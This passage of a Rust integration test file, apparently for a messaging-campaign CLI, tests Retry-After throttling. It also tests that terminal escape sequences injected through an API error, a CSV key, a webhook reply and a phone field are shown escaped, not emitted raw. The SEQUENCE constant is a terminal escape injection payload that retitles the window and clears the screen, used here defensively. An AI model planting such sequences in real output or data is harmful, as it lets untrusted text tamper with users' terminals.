        assert_eq!(again.status.code(), Some(0), "{}", stderr_of(&again));
        assert_eq!(
            f.sql("SELECT status, COUNT(*) FROM contacts GROUP BY status"),
            [["sent", "2"]]
        );
    }
}

#[test]
fn a_retry_after_within_max_wait_is_waited_out_and_shown_in_the_progress_line() {
    let normal = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let server = throttling("2", normal.clone());
    let f = Fixture::new();
    f.write("contacts.csv", CONTACTS).write(
        "campaign.yaml",
        &campaign_yaml(
            &server.url(),
            "  - type: text\n    text: Hi\n",
            "send:\n  concurrency: 1\n",
        ),
    );
    let flip = std::thread::spawn(move || {
        std::thread::sleep(std::time::Duration::from_millis(500));
        normal.store(true, std::sync::atomic::Ordering::SeqCst);
    });
    let out = f
        .cmd()
        .env("COSMOCAST_PROGRESS_EVERY_MS", "300")
        .args(["run", "campaign.yaml", "--progress", "plain"])
        .output()
        .unwrap();
    flip.join().unwrap();
    let err = stderr_of(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(
        err.lines()
            .any(|l| l.contains("s (API asked)") && l.contains("; waiting ")),
        "{err}"
    );
}

/// Retitles the window, then clears the screen, on a terminal that obeys it.
const SEQUENCE: &str = "\x1b]0;x\x07\x1b[2J";

/// Asserts that no escape byte of `what`'s output reached stdout or stderr raw.
fn shown_not_obeyed(what: &str, out: &std::process::Output) {
    for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
        assert!(
            !bytes.contains(&0x1b) && !bytes.contains(&0x07),
            "{what} wrote a raw control character to {stream}: {}",
            String::from_utf8_lossy(bytes)
        );
    }
}

#[test]
fn control_characters_from_the_api_a_csv_key_and_a_reply_reach_no_terminal_raw() {
    let server = TestServer::start(Arc::new(|n, body| {
        if body["contact"]["external_id"] == "C1" {
            return (400, format!("{{\"error\": \"bad {SEQUENCE} request\"}}"));
        }
        answer_sent(n, body)
    }));
    let f = Fixture::new();
    f.write(
        "contacts.csv",
        &format!(
            "customer_id,first_name,phone\nC1,Ana,5511999990001\nK{SEQUENCE},Bo,5511999990002\n"
        ),
    )
    .write(
        "campaign.yaml",
        &campaign_yaml(&server.url(), "  - type: text\n    text: Hi\n", "").replace(
            "  file: contacts.csv\n",
            "  file: contacts.csv\n  key: \"{{ customer_id }}\"\n",
        ),
    );
    let run = f
        .cmd()
        .env("COSMOCAST_PROGRESS_EVERY_MS", "50")
        .args(["run", "campaign.yaml", "--progress", "plain"])
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(3), "{}", stderr_of(&run));
    shown_not_obeyed("run", &run);

    // A reply and a click carrying the sequence, from the second contact.
    let secret = "a-webhook-secret-for-the-terminal-test";
    let listener = Listener::start(&f, secret);
    let webhook = format!(
        "{}/webhook/{secret}",
        listener.url.split("/webhook").next().unwrap()
    );
    let body = serde_json::json!({
        "contact": {"mobile_phone": "5511999990002"},
        "message": [
            {"type": "text", "data": {"text": format!("hi {SEQUENCE}")}},
            {"type": "payload", "data": {"payload": format!("yes{SEQUENCE}")}},
        ],
    });
    assert_eq!(post_status(&webhook, &body.to_string()), 200);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while f.sql("SELECT COUNT(*) FROM replies")[0][0] == "0" {
        assert!(std::time::Instant::now() < deadline, "no reply stored");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    drop(listener);

    let status = f.cmd().args(["status", "campaign.yaml"]).output().unwrap();
    assert_eq!(status.status.code(), Some(0), "{}", stderr_of(&status));
    shown_not_obeyed("status", &status);
    // Shown, as escapes: the API's error and the click.
    let shown = stdout_of(&status);
    assert!(
        shown.contains("bad \\x1b]0;x\\x07\\x1b[2J request"),
        "{shown}"
    );
    assert!(shown.contains("clicked yes\\x1b]0;x"), "{shown}");

    let preview = f
        .cmd()
        .args(["preview", "campaign.yaml", "--row", "2"])
        .output()
        .unwrap();
    assert_eq!(preview.status.code(), Some(0), "{}", stderr_of(&preview));
    shown_not_obeyed("preview", &preview);
    assert!(
        stdout_of(&preview).contains("key K\\x1b]0;x"),
        "{}",
        stdout_of(&preview)
    );

    // A cell that check quotes in its problem: a phone that is no phone.
    f.write(
        "contacts.csv",
        &format!("customer_id,first_name,phone\nC1,Ana,5511999990001\nC3,Cy,55{SEQUENCE}\n"),
    );
    for args in [
        &["check", "campaign.yaml"][..],
        &["preview", "campaign.yaml", "--row", "2"],
    ] {
        let out = f.cmd().args(args).output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr_of(&out));
        shown_not_obeyed(args[0], &out);
        assert!(
            stderr_of(&out).contains("\\x1b"),
            "{args:?}: {}",
            stderr_of(&out)
        );
    }
}
